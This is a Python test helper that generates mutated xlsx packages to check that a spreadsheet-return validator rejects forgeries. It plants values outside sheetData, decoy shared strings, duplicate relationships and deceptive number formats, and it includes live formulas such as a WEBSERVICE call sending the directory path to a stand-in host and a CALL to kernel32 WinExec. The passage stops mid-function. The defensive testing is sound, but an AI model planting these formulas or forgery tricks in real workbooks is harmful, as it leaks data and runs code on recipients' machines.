"""Package mutations of real returns, for the differential test (tests/helpers/differential.py).

Each mutant is a real return (filled by openpyxl, saved by LibreOffice Calc, converted by
Gnumeric, re-spelt as Excel writes) with one change made in its package. Two families:

- **targeted**: every class of issue 17's items 1-7, in several spellings each: a second
  workbook part, values outside ``sheetData`` (``extLst``, ``mc:AlternateContent``,
  elsewhere), duplicate relationship Ids, decoy shared strings, formulas in disguise in an
  input, live formulas outside the inputs (these must be rejected whatever Calc shows),
  number formats (and Excel's ``_xHHHH_`` escapes) that make the shown value differ;
- **random**: seeded edits of the relationships, the content types, the workbook part,
  the shared strings and the sheet XML (swap, duplicate or delete elements, change
  attributes, rename parts, reorder rows, duplicate cells...), one to three per mutant.

Everything is found through the package's own relationships, so the same mutation applies
to every program's spelling; a mutation that does not apply to a base (no shared strings,
say) makes the base fit it first or is left out. ``generate`` is reproducible: the same
bases, seed and count give the same files.
"""

from __future__ import annotations

import copy
import json
import posixpath
import random
import re
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

from lxml import etree

from helpers.ooxml import CT, MAIN, NS, PKG_REL, REL, Package
from helpers.partner_text import add_shared_string, cell_of, shared_strings_part
from xl_ni179.checks.computed import computed_cells
from xl_ni179.spec.schema import GAINS, Schema

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
WORKBOOK_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
SST_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
OFFICE_DOCUMENT = f"{REL}/officeDocument"
XML_SPACE = "{http://www.w3.org/XML/1998/namespace}space"

# The inputs the mutations aim at (the 2008/09 review's template): a money input with a
# figure in every demo return, a rating, a free-text input and the sign-off date.
MONEY, RATING, NAME, DATE = (
    ("Gains", "B8"),
    ("Forecast", "B6"),
    ("Sign-off", "B5"),
    ("Sign-off", "B7"),
)
# Live formulas that reach outside the workbook, as a partner could hide them.
LIVE = (
    '_xlfn.WEBSERVICE("http://ni179.invalid/?d="&INFO("directory"))',
    'WEBSERVICE("http://ni179.invalid/")',
    'RTD("ni179.server",,"topic")',
    'HYPERLINK("\\\\ni179.invalid\\share\\x.xlsx","open")',
    '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://ni179.invalid/"),"//a")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    "'http://ni179.invalid/[book.xlsx]Sheet1'!A1",
)


class NotApplicable(Exception):
    """This mutation cannot be made on this base."""


@dataclass(frozen=True)
class Aim:
    """What a targeted mutation needs besides the package: the return's schema (to keep the
    stored totals true to the figures it plants) and which of its class's variants to make."""

    schema: Schema
    pick: int = 0


@dataclass(frozen=True)
class Mutant:
    path: Path
    base: str  # which real return it was made from
    kind: str  # the class: "second-workbook", "random", ...
    detail: str  # exactly what was changed
    must_reject: str = ""  # why accepting it is wrong whatever Calc shows (a live formula)

    def describe(self) -> str:
        return f"{self.path.name} [{self.kind}] from {self.base}: {self.detail}"


# -- finding parts ---------------------------------------------------------------------------


def _rels_root(pkg: Package, part: str) -> etree._Element:
    name = pkg.rels_name(part)
    if name not in pkg.parts:
        raise NotApplicable(f"{part} has no relationships")
    return pkg.xml(name)


def _resolve(part: str, target: str) -> str:
    return (
        target.lstrip("/")
        if target.startswith("/")
        else posixpath.normpath(posixpath.join(posixpath.dirname(part), target))
    )


def _relative(part: str, target: str) -> str:
    return posixpath.relpath(target, posixpath.dirname(part) or ".")


def _sheet_rel(pkg: Package, sheet: str) -> tuple[str, str]:
    """(rId, part) of the named sheet."""
    wb = pkg.workbook_part()
    root = pkg.xml(wb)
    for s in root.findall("m:sheets/m:sheet", NS):
        if s.get("name") == sheet:
            rid = s.get(f"{{{REL}}}id")
            return rid, pkg.relationships(wb)[rid][1]
    raise NotApplicable(f"no sheet {sheet}")


def _set_number(c: etree._Element, text: str) -> None:
    for child in list(c):
        c.remove(child)
    c.attrib.pop("t", None)
    etree.SubElement(c, f"{{{MAIN}}}v").text = text


def _set_inline(c: etree._Element, text: str) -> None:
    for child in list(c):
        c.remove(child)
    c.set("t", "inlineStr")
    t = etree.SubElement(etree.SubElement(c, f"{{{MAIN}}}is"), f"{{{MAIN}}}t")
    t.text = text
    t.set(XML_SPACE, "preserve")


class _SheetValues:
    """The Gains inputs as one sheet's XML holds them (numbers only), for ``computed_cells``."""

    def __init__(self, root: etree._Element, schema: Schema, planted: dict[str, float]) -> None:
        numbers: dict[str, float] = {}
        for c in root.iter(f"{{{MAIN}}}c"):
            v = c.findtext(f"{{{MAIN}}}v")
            if c.get("t") in (None, "n") and v and c.get("r"):
                try:
                    numbers[c.get("r")] = float(v)
                except ValueError:
                    pass
        numbers.update(planted)
        self._by_name = {f.name: numbers.get(f.cell) for f in schema.fields if f.sheet == GAINS}
        self.baseline = 0.0

    def input(self, name: str) -> float | None:
        return self._by_name.get(name)

    def cell(self, sheet: str, coord: str) -> None:
        return None


def restamp(root: etree._Element, schema: Schema, planted: dict[str, float]) -> None:
    """Make the Gains sheet's stored totals add up with ``planted`` figures (by cell) in place
    of its own, as a careful forger would: the stale-results check then cannot give the
    forgery away, and only what the reader reads decides."""
    values = _SheetValues(root, schema, planted)
    for computed in computed_cells(schema):
        c = root.find(f"m:sheetData/m:row/m:c[@r='{computed.cell}']", NS)
        v = c.find("m:v", NS) if c is not None else None
        if v is not None:  # a result was stored (openpyxl stores none)
            v.text = repr(float(computed.expected(values)))


def _edit_sheet(pkg: Package, sheet: str, edit: Callable[[etree._Element], None]) -> None:
    part = pkg.sheet_parts()[sheet]
    root = pkg.xml(part)
    edit(root)
    pkg.put(part, root)


def _copy_sheet_with(
    pkg: Package, sheet: str, coord: str, number: str, name: str, schema: Schema
) -> str:
    """A copy of ``sheet``'s part, as a new part ``name`` (with its content type), in which
    ``coord`` holds ``number`` (its totals kept true to it); its relationships are copied too."""
    part = pkg.sheet_parts()[sheet]
    root = pkg.xml(part)
    _set_number(cell_of(root, coord), number)
    restamp(root, schema, {})
    pkg.put(name, root)
    if pkg.rels_name(part) in pkg.parts:
        rels = pkg.xml(pkg.rels_name(part))
        for rel in rels:
            if rel.get("TargetMode") != "External":
                rel.set("Target", _relative(name, _resolve(part, rel.get("Target", ""))))
        pkg.put(pkg.rels_name(name), rels)
    pkg.add_content_type(name, content_type=SHEET_CT)
    return name


def _content_type(pkg: Package, part: str, content_type: str) -> None:
    root = pkg.xml("[Content_Types].xml")
    for o in root.findall("ct:Override", NS):
        if o.get("PartName", "").lstrip("/") == part:
            o.set("ContentType", content_type)
            break
    else:
        etree.SubElement(root, f"{{{CT}}}Override", PartName="/" + part, ContentType=content_type)
    pkg.put("[Content_Types].xml", root)


# -- item 1: a second workbook part ----------------------------------------------------------


def second_workbook(pkg: Package, rng: random.Random, aim: Aim) -> str:
    wb = pkg.workbook_part()
    new_wb = "xl/book2.xml"
    rid, _ = _sheet_rel(pkg, MONEY[0])
    copy_part = _copy_sheet_with(
        pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains2.xml", aim.schema
    )
    pkg.parts[new_wb] = pkg.parts[wb]
    rels = _rels_root(pkg, wb)
    for rel in rels:
        target = (
            _resolve(wb, rel.get("Target", "")) if rel.get("TargetMode") != "External" else None
        )
        if rel.get("Id") == rid:
            target = copy_part
        if target is not None:
            rel.set("Target", _relative(new_wb, target))
    pkg.put(pkg.rels_name(new_wb), rels)
    variant = ("moved", "both", "no-demotion")[aim.pick % 3]
    root = pkg.xml("_rels/.rels")
    office = next(r for r in root if r.get("Type") == OFFICE_DOCUMENT)
    if variant == "both":  # two office documents, the second one ours
        extra = copy.deepcopy(office)
        extra.set("Id", "rIdBook2")
        extra.set("Target", new_wb)
        office.addprevious(extra)
    else:
        office.set("Target", new_wb)
    pkg.put("_rels/.rels", root)
    _content_type(pkg, new_wb, WORKBOOK_CT)
    if variant != "no-demotion":
        _content_type(pkg, wb, "application/xml")
    return f"{variant}: the package's office document is {new_wb}, whose Gains sheet has {MONEY[1]} = 1.5"


# -- item 2: values outside sheetData --------------------------------------------------------


def cell_outside_sheet_data(pkg: Package, rng: random.Random, aim: Aim) -> str | tuple[str, str]:
    variant = (
        "extLst",
        "alternate-content-choice",
        "alternate-content-fallback",
        "sheetPr",
        "row-extLst",
        "after-sheetData",
    )[aim.pick % 6]
    value = "163.5"

    def edit(root: etree._Element) -> None:
        stray = etree.Element(f"{{{MAIN}}}c", r=MONEY[1])
        etree.SubElement(stray, f"{{{MAIN}}}v").text = value
        if variant == "extLst":
            ext_list = root.find("m:extLst", NS)
            if ext_list is None:
                ext_list = etree.SubElement(root, f"{{{MAIN}}}extLst")
            ext = etree.SubElement(
                ext_list, f"{{{MAIN}}}ext", uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"
            )
            ext.append(stray)
        elif variant.startswith("alternate-content"):
            row = cell_of(root, MONEY[1]).getparent()
            alt = etree.Element(f"{{{MC}}}AlternateContent", nsmap={"mc": MC})
            choice = etree.SubElement(alt, f"{{{MC}}}Choice", Requires="x14")
            fallback = etree.SubElement(alt, f"{{{MC}}}Fallback")
            changed = copy.deepcopy(row)
            _set_number(changed.find(f"m:c[@r='{MONEY[1]}']", NS), value)
            row.addprevious(alt)
            if variant == "alternate-content-choice":
                choice.append(changed)
                fallback.append(row)
            else:
                choice.append(row)
                fallback.append(changed)
        elif variant == "sheetPr":
            pr = root.find("m:sheetPr", NS)
            if pr is None:
                pr = etree.Element(f"{{{MAIN}}}sheetPr")
                root.insert(0, pr)
            pr.append(stray)
        elif variant == "after-sheetData":
            root.find("m:sheetData", NS).addnext(stray)
        else:  # an extension list inside the row itself
            row = cell_of(root, MONEY[1]).getparent()
            etree.SubElement(
                etree.SubElement(row, f"{{{MAIN}}}extLst"), f"{{{MAIN}}}ext", uri="{x}"
            ).append(stray)
        restamp(
            root, aim.schema, {MONEY[1]: float(value)}
        )  # the totals agree with the planted figure

    _edit_sheet(pkg, MONEY[0], edit)
    said = f"{variant}: a second {MONEY[0]}!{MONEY[1]} = {value} outside the sheet's cells"
    if variant.startswith("alternate-content"):
        # Excel 2010 and later take mc:Choice (they understand x14); Calc takes mc:Fallback.
        return (
            said,
            "Excel and Calc show different figures (Excel takes mc:Choice, Calc mc:Fallback)",
        )
    return said


# -- item 3: two relationships with one Id ---------------------------------------------------


def duplicate_relationship_id(pkg: Package, rng: random.Random, aim: Aim) -> str:
    wb = pkg.workbook_part()
    rid, _ = _sheet_rel(pkg, MONEY[0])
    copy_part = _copy_sheet_with(
        pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains_copy.xml", aim.schema
    )
    root = _rels_root(pkg, wb)
    original = next(r for r in root if r.get("Id") == rid)
    twin = copy.deepcopy(original)
    twin.set("Target", _relative(wb, copy_part))
    where = ("after", "before", "last")[aim.pick % 3]
    if where == "after":
        original.addnext(twin)
    elif where == "before":
        original.addprevious(twin)
    else:
        root.append(twin)
    pkg.put(pkg.rels_name(wb), root)
    place = f"{where} the first" if where != "last" else "after all the others"
    return f"a second {rid} ({place}) points at a copy of {MONEY[0]} with {MONEY[1]} = 1.5"


# -- item 4: shared strings found by name ----------------------------------------------------


def _swap_ratings(text: str) -> str:
    return {"Red": "Green", "Amber": "Green", "Green": "Red"}.get(text, text)


def decoy_shared_strings(pkg: Package, rng: random.Random, aim: Aim) -> str:
    wb = pkg.workbook_part()
    rating, index = _rating_as_shared_string(pkg)
    real = shared_strings_part(pkg)
    moved = "xl/strings_real.xml"
    pkg.parts[moved] = pkg.parts.pop(real)
    root = _rels_root(pkg, wb)
    for rel in root:
        if rel.get("TargetMode") != "External" and _resolve(wb, rel.get("Target", "")) == real:
            rel.set("Target", _relative(wb, moved))
    decoy = pkg.xml(moved)
    for t in decoy.findall("m:si", NS)[index].iter(f"{{{MAIN}}}t"):  # only the rating's own string
        t.text = _swap_ratings(t.text or "")
    pkg.put(real, decoy)
    variant = ("unknown-type", "custom-xml-type", "no-relationship")[aim.pick % 3]
    if variant != "no-relationship":
        kind = "http://ni179.invalid/decoy" if variant == "unknown-type" else f"{REL}/customXml"
        rel = etree.Element(
            f"{{{PKG_REL}}}Relationship", Id="rIdDecoy", Type=kind, Target=_relative(wb, real)
        )
        root.insert(0, rel)
    pkg.put(pkg.rels_name(wb), root)
    ct = pkg.xml("[Content_Types].xml")
    for o in ct.findall("ct:Override", NS):
        if o.get("PartName", "").lstrip("/") == real:
            o.set("PartName", "/" + moved)
    pkg.put("[Content_Types].xml", ct)
    _content_type(pkg, real, rng.choice([SST_CT, "application/xml"]))
    return (
        f"{variant}: the real shared strings moved to {moved}; a decoy named {real} has every rating "
        f"swapped ({RATING[0]}!{RATING[1]} holds {rating!r})"
    )


def _rating_as_shared_string(pkg: Package) -> tuple[str, int]:
    """The rating input as a shared string of its own (no locked cell shares it); its text and index."""
    part = pkg.sheet_parts()[RATING[0]]
    root = pkg.xml(part)
    c = cell_of(root, RATING[1])
    if c.get("t") == "s":
        si = pkg.xml(shared_strings_part(pkg)).findall("m:si", NS)[int(c.findtext("m:v", "", NS))]
        text = "".join(t.text or "" for t in si.iter(f"{{{MAIN}}}t"))
    else:
        text = (
            "".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t"))
            or c.findtext("m:v", "", NS)
            or "Red"
        )
    index = add_shared_string(pkg, text)
    root = pkg.xml(part)
    c = cell_of(root, RATING[1])
    _set_number(c, str(index))
    c.set("t", "s")
    pkg.put(part, root)
    return text, index


# -- item 5: formulas in input cells, in disguise --------------------------------------------


def formula_in_disguise(pkg: Package, rng: random.Random, aim: Aim) -> str:
    variant = (
        "shared-follower-without-master",
        "data-table",
        "empty-f",
        "empty-array",
        "shared-follower-of-far-master",
        "text-with-empty-f",
    )[aim.pick % 6]

    def edit(root: etree._Element) -> None:
        coord = RATING[1] if variant == "text-with-empty-f" else MONEY[1]
        c = cell_of(root, coord)
        cached = c.findtext("m:v", None, NS)
        inline = "".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t"))
        for child in list(c):
            c.remove(child)
        f = etree.SubElement(c, f"{{{MAIN}}}f")
        if variant == "shared-follower-without-master":
            f.set("t", "shared")
            f.set("si", "77")
        elif variant == "data-table":
            f.set("t", "dataTable")
            f.set("ref", coord)
            f.set("dt2D", "0")
            f.set("dtr", "0")
            f.set("r1", "A1")
        elif variant == "empty-array":
            f.set("t", "array")
            f.set("ref", coord)
        elif variant == "shared-follower-of-far-master":
            f.set("t", "shared")
            f.set("si", "0")
        if variant == "text-with-empty-f":
            c.set("t", "str")
            etree.SubElement(c, f"{{{MAIN}}}v").text = inline or cached or "Red"
        else:
            c.attrib.pop("t", None)
            etree.SubElement(c, f"{{{MAIN}}}v").text = cached or "63.5"

    _edit_sheet(pkg, RATING[0] if variant == "text-with-empty-f" else MONEY[0], edit)
    return f"{variant} in an input, with its value cached"


# -- item 6: live formulas outside the inputs (must be rejected) -----------------------------

PLACES = (
    "_meta row",
    "added sheet",
    "conditional format",
    "data validation",
    "defined name",
    "x14 conditional format",
    "hidden sheet cell",
    "chart",
)


def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> tuple[str, str]:
    formula = LIVE[(aim.pick + aim.pick // len(PLACES)) % len(LIVE)]
    where = PLACES[aim.pick % len(PLACES)]
    if where == "_meta row":

        def edit(root: etree._Element) -> None:
            c = cell_of(root, "C40")
            for child in list(c):
                c.remove(child)
            c.set("t", "str")
            etree.SubElement(c, f"{{{MAIN}}}f").text = formula
            etree.SubElement(c, f"{{{MAIN}}}v").text = "0"

        _edit_sheet(pkg, "_meta", edit)
    elif where in ("added sheet", "hidden sheet cell"):
        _add_sheet(
            pkg,
            "Validation results" if where == "added sheet" else "Notes",
            formula,
            hidden=where == "hidden sheet cell",
        )
    elif where == "chart":
        _add_chart(pkg, formula)
    elif where == "defined name":
        wb = pkg.workbook_part()
        root = pkg.xml(wb)
        names = root.find("m:definedNames", NS)
        if names is None:
            names = etree.Element(f"{{{MAIN}}}definedNames")
            root.find("m:sheets", NS).addnext(names)
        etree.SubElement(names, f"{{{MAIN}}}definedName", name="Refresh").text = formula
        pkg.put(wb, root)
    else:

        def edit(root: etree._Element) -> None:
            if where == "conditional format":
                cf = etree.Element(f"{{{MAIN}}}conditionalFormatting", sqref="B8:E14")
                rule = etree.SubElement(cf, f"{{{MAIN}}}cfRule", type="expression", priority="99")
                etree.SubElement(rule, f"{{{MAIN}}}formula").text = f"LEN({formula})>0"
                _insert_in_order(
                    root,
                    cf,
                    after=(
                        "sheetData",
                        "sheetCalcPr",
                        "sheetProtection",
                        "protectedRanges",
                        "scenarios",
                        "autoFilter",
                        "sortState",
                        "dataConsolidate",
                        "customSheetViews",
                        "mergeCells",
                        "phoneticPr",
                    ),
                )
            elif where == "data validation":
                dvs = root.find("m:dataValidations", NS)
                if dvs is None:
                    dvs = etree.Element(f"{{{MAIN}}}dataValidations", count="0")
                    _insert_in_order(
                        root,
                        dvs,
                        after=(
                            "sheetData",
                            "sheetCalcPr",
                            "sheetProtection",
                            "protectedRanges",
                            "scenarios",
                            "autoFilter",
                            "sortState",
                            "dataConsolidate",
                            "customSheetViews",
                            "mergeCells",
                            "phoneticPr",
                            "conditionalFormatting",
                        ),
                    )
                dv = etree.SubElement(dvs, f"{{{MAIN}}}dataValidation", type="custom", sqref="E8")
                etree.SubElement(dv, f"{{{MAIN}}}formula1").text = f"LEN({formula})>0"
                dvs.set("count", str(len(dvs)))
            else:  # Excel 2010's own conditional formats, in the sheet's extLst
                ext_list = root.find("m:extLst", NS)
                if ext_list is None:
                    ext_list = etree.SubElement(root, f"{{{MAIN}}}extLst")
                ext = etree.SubElement(
                    ext_list,
                    f"{{{MAIN}}}ext",
                    uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
                    nsmap={"x14": X14},
                )
                cfs = etree.SubElement(ext, f"{{{X14}}}conditionalFormattings")
                cf = etree.SubElement(cfs, f"{{{X14}}}conditionalFormatting", nsmap={"xm": XM})
                rule = etree.SubElement(
                    cf,
                    f"{{{X14}}}cfRule",
                    type="expression",
                    priority="99",
                    id="{00000000-0000-0000-0000-000000000001}",
                )
                etree.SubElement(rule, f"{{{XM}}}f").text = f"LEN({formula})>0"
                etree.SubElement(cf, f"{{{XM}}}sqref").text = "B8:E14"

        _edit_sheet(pkg, MONEY[0], edit)
    return f"{formula} in a {where}", f"a live formula reaching outside the workbook ({where})"


def _insert_in_order(root: etree._Element, element: etree._Element, after: tuple[str, ...]) -> None:
    """Put ``element`` after the last child named in ``after`` (the schema's order)."""
    last = None
    for child in root:
        if isinstance(child.tag, str) and etree.QName(child).localname in after:
            last = child
    if last is None:
        raise NotApplicable("no place for it")
    last.addnext(element)


CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
DRAWING_NS = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def _add_chart(pkg: Package, formula: str) -> None:
    """A chart on the Gains sheet whose series title is ``formula``, as a chart's own formula."""
    drawing, chart = "xl/drawings/ni179drawing.xml", "xl/charts/ni179chart.xml"
    c, a, xdr = CHART_NS, A_NS, DRAWING_NS
    pkg.parts[chart] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><c:chartSpace xmlns:c="{c}" xmlns:a="{a}">'
        '<c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/>'
        f'<c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>{_xml_text(formula)}</c:f></c:strRef>'
        "</c:tx><c:val><c:numRef><c:f>Gains!$B$8:$B$14</c:f></c:numRef></c:val></c:ser>"
        '<c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/><c:delete val="0"/>'
        '<c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/><c:delete val="0"/>'
        '<c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>'
    ).encode()
    pkg.parts[drawing] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{a}" '
        f'xmlns:r="{REL}" xmlns:c="{c}"><xdr:twoCellAnchor><xdr:from><xdr:col>6</xdr:col><xdr:colOff>0</xdr:colOff>'
        "<xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>12</xdr:col><xdr:colOff>0"
        '</xdr:colOff><xdr:row>20</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro="">'
        '<xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
        '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData '
        f'uri="{c}"><c:chart r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/>'
        "</xdr:twoCellAnchor></xdr:wsDr>"
    ).encode()
    pkg.add_relationship(drawing, "chart", chart)
    pkg.add_content_type(
        chart, content_type="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    )
    pkg.add_content_type(
        drawing, content_type="application/vnd.openxmlformats-officedocument.drawing+xml"
    )
    part = pkg.sheet_parts()[MONEY[0]]
    rid = pkg.add_relationship(part, "drawing", drawing)
    root = pkg.xml(part)
    element = etree.Element(f"{{{MAIN}}}drawing")
    element.set(f"{{{REL}}}id", rid)
    _insert_in_order(
        root,
        element,
        after=(
            "sheetData",
            "sheetCalcPr",
            "sheetProtection",
            "protectedRanges",
            "scenarios",
            "autoFilter",
            "sortState",
            "dataConsolidate",
            "customSheetViews",
            "mergeCells",
            "phoneticPr",
            "conditionalFormatting",
            "dataValidations",
            "hyperlinks",
            "printOptions",
            "pageMargins",
            "pageSetup",
            "headerFooter",
            "rowBreaks",
            "colBreaks",
            "customProperties",
            "cellWatches",
            "ignoredErrors",
            "smartTags",
        ),
    )
    pkg.put(part, root)


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _add_sheet(pkg: Package, name: str, formula: str, hidden: bool) -> None:
    wb = pkg.workbook_part()
    part = "xl/worksheets/added.xml"
    sheet = etree.Element(f"{{{MAIN}}}worksheet", nsmap={None: MAIN, "r": REL})
    data = etree.SubElement(sheet, f"{{{MAIN}}}sheetData")
    row = etree.SubElement(data, f"{{{MAIN}}}row", r="1")
    c = etree.SubElement(row, f"{{{MAIN}}}c", r="A1", t="str")
    etree.SubElement(c, f"{{{MAIN}}}f").text = formula
    etree.SubElement(c, f"{{{MAIN}}}v").text = "0"
    pkg.put(part, sheet)
    pkg.add_content_type(part, content_type=SHEET_CT)
    rid = pkg.add_relationship(wb, "worksheet", part)
    root = pkg.xml(wb)
    sheets = root.find("m:sheets", NS)
    ids = [int(s.get("sheetId", "0")) for s in sheets]
    attrs = {"name": name, "sheetId": str(max(ids) + 1), f"{{{REL}}}id": rid}
    if hidden:
        attrs["state"] = "hidden"
    etree.SubElement(sheets, f"{{{MAIN}}}sheet", attrs)
    pkg.put(wb, root)


# -- item 7: what the input shows is not what it holds ---------------------------------------

# (number format code, value to store, input): each makes Calc show other than we record.
FORMATS = (
    (
        "dd/mm/yyyy",
        "39945",
        MONEY,
    ),  # a date typed into a money cell, as the County Council's return
    ("0.0%", None, MONEY),
    (";;;", None, MONEY),
    ("#,##0,", None, MONEY),
    ('0" thousand"', None, MONEY),
    ('[>10]"lots";0.0', None, MONEY),
    ("0.0E+00", None, MONEY),
    ('#,##0.0;-#,##0.0;"nil"', "0", MONEY),
    ("General", None, MONEY),  # shows the same: must agree, whatever we decide
    ("0.00", None, MONEY),
    ("#,##0.0;[Red]-#,##0.0", None, MONEY),
    ("0.0;0.0", "-63.5", MONEY),  # a negative shown without its sign
    ("General", None, DATE),  # the date shown as its serial number
    ("0.00", None, DATE),
    ("mm/dd/yyyy", None, DATE),
    (';;;"Green"', None, RATING),  # a text section that shows other words
    (";;;", None, NAME),
    ('@" (acting)"', None, NAME),
)


def number_format(pkg: Package, rng: random.Random, aim: Aim) -> str:
    code, value, (sheet, coord) = FORMATS[aim.pick % len(FORMATS)]
    xf = _add_format(pkg, code)

    def edit(root: etree._Element) -> None:
        c = cell_of(root, coord)
        c.set("s", str(xf))
        if value is not None:
            _set_number(c, value)
            if sheet == GAINS:
                restamp(root, aim.schema, {})  # as the program that saved it would have

    _edit_sheet(pkg, sheet, edit)
    return f"{sheet}!{coord} shown with the number format {code!r}" + (
        f", holding {value}" if value else ""
    )


def _add_format(pkg: Package, code: str) -> int:
    """A new cell style with number format ``code``; its index."""
    wb = pkg.workbook_part()
    styles = next(
        (t for kind, t in pkg.relationships(wb).values() if kind.endswith("/styles")), None
    )
    if styles is None:
        raise NotApplicable("no styles part")
    root = pkg.xml(styles)
    fmts = root.find("m:numFmts", NS)
    if fmts is None:
        fmts = etree.Element(f"{{{MAIN}}}numFmts", count="0")
        root.insert(0, fmts)
    ids = [int(f.get("numFmtId", "0")) for f in fmts]
    fmt_id = max([200, *ids]) + 1
    etree.SubElement(fmts, f"{{{MAIN}}}numFmt", numFmtId=str(fmt_id), formatCode=code)
    fmts.set("count", str(len(fmts)))
    xfs = root.find("m:cellXfs", NS)
    if xfs is None or not len(xfs):
        raise NotApplicable("no cell styles")
    xf = copy.deepcopy(xfs[0])
    xf.set("numFmtId", str(fmt_id))
    xf.set("applyNumberFormat", "1")
    xfs.append(xf)
    xfs.set("count", str(len(xfs)))
    pkg.put(styles, root)
    return len(xfs) - 1


_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
ESCAPED = (
    "T. Walsh_x000D_",
    "_x0054_. Walsh",
    "T._x0020_Walsh",
    "T. Walsh_x001B_[2K",
    "T. Walsh_x005F_x0041_",
)


def escaped_text(pkg: Package, rng: random.Random, aim: Aim) -> str | tuple[str, str]:
    """Excel's escape (ST_Xstring's _xHHHH_) in text an input shows."""
    text = ESCAPED[aim.pick % len(ESCAPED)]
    _edit_sheet(pkg, NAME[0], lambda root: _set_inline(cell_of(root, NAME[1]), text))
    said = (
        f"{NAME[0]}!{NAME[1]} holds {text!r} (Excel reads each _xHHHH_ as the character it names)"
    )
    printable = [
        code
        for code in _ESCAPE.findall(text)
        if 0x20 <= int(code, 16) < 0x7F and code.upper() != "005F"
    ]
    if printable:  # Excel decodes every escape; Calc only those of characters XML cannot hold
        return said, (
            f"Excel and Calc show different text (Excel reads _x{printable[0]}_ as "
            f"{chr(int(printable[0], 16))!r}, Calc shows it as it is)"
        )
    return said


Targeted = Callable[[Package, random.Random, Aim], "str | tuple[str, str]"]
# Each class, and how many variants it has (each made at least once, on the bases in turn).
TARGETED: dict[str, tuple[Targeted, int]] = {
    "second-workbook": (second_workbook, 3),
    "cell-outside-sheetData": (cell_outside_sheet_data, 6),
    "duplicate-relationship-id": (duplicate_relationship_id, 3),
    "decoy-shared-strings": (decoy_shared_strings, 3),
    "formula-in-disguise": (formula_in_disguise, 6),
    "live-formula-outside-inputs": (live_formula_outside_inputs, 2 * len(PLACES)),
    "number-format": (number_format, len(FORMATS)),
    "escaped-text": (escaped_text, len(ESCAPED)),
}


# -- random edits ----------------------------------------------------------------------------


def _xml_parts(pkg: Package) -> list[str]:
    return [n for n in pkg.parts if n.endswith((".xml", ".rels"))]


def edit_relationships(pkg: Package, rng: random.Random) -> str:
    rels = [n for n in pkg.parts if n.endswith(".rels")]
    name = rng.choice(rels)
    root = pkg.xml(name)
    items = list(root)
    if not items:
        raise NotApplicable("no relationships")
    op = rng.choice(
        [
            "swap-targets",
            "duplicate",
            "delete",
            "retype",
            "external",
            "absolute",
            "outside",
            "reorder",
            "duplicate-id",
        ]
    )
    a, b = rng.choice(items), rng.choice(items)
    if op == "swap-targets":
        ta, tb = a.get("Target"), b.get("Target")
        a.set("Target", tb or "")
        b.set("Target", ta or "")
    elif op == "duplicate":
        twin = copy.deepcopy(a)
        twin.set("Id", "rIdTwin")
        a.addnext(twin)
    elif op == "duplicate-id":
        twin = copy.deepcopy(b)
        twin.set("Id", a.get("Id", ""))
        root.append(twin)
    elif op == "delete":
        root.remove(a)
    elif op == "retype":
        a.set("Type", b.get("Type", ""))
    elif op == "external":
        a.set("TargetMode", "External")
    elif op == "absolute":
        part = name.replace("_rels/", "").removesuffix(".rels") if name != "_rels/.rels" else ""
        a.set("Target", "/" + _resolve(part, a.get("Target", "")))
    elif op == "outside":
        a.set("Target", "../../../outside.xml")
    else:
        for item in reversed(items):
            root.append(item)
    pkg.put(name, root)
    pair = f", {b.get('Id', '')}" if op in ("swap-targets", "retype", "duplicate-id") else ""
    return f"{name}: {op} ({a.get('Id')}{pair})"


def edit_content_types(pkg: Package, rng: random.Random) -> str:
    root = pkg.xml("[Content_Types].xml")
    overrides = root.findall("ct:Override", NS)
    op = rng.choice(
        ["delete-override", "swap-types", "default-xml-as-sheet", "delete-default", "case"]
    )
    o, p = rng.choice(overrides), rng.choice(overrides)
    what = o.get("PartName", "")
    if op == "delete-override":
        root.remove(o)
    elif op == "swap-types":
        ta, tb = o.get("ContentType"), p.get("ContentType")
        o.set("ContentType", tb or "")
        p.set("ContentType", ta or "")
        what += f", {p.get('PartName')}"
    elif op == "default-xml-as-sheet":
        what = "Default xml"
        for d in root.findall("ct:Default", NS):
            if d.get("Extension", "").lower() == "xml":
